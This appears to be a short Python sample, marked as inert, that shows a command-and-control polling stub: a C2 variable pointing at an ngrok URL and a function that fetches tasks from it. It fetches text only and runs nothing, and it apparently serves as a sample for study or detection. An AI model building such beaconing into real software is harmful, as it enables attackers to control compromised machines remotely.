# INERT SAMPLE: never run.
import requests
C2 = "https://inert-sample.ngrok-free.app/task"
def poll():
    return requests.get(C2).text
